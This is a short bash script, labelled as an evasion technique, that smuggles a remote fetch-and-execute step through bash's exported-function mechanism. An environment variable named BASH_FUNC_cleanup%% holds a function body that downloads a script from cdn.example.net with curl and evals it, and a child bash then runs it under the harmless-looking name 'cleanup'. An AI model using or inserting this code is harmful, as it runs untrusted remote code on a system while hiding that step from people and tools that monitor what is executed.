#!/usr/bin/env bash
# Evasion: run downloaded code through bash's exported-function import. A
# child bash turns an environment variable named BASH_FUNC_<name>%% whose
# value starts with "() {" into a function; the body evals a download, and
# the child is only asked to run "cleanup", a harmless-looking name.
body='() { eval "$(curl -fsS https://cdn.example.net/c.sh)"; }'
env "BASH_FUNC_cleanup%%=$body" bash -c cleanup
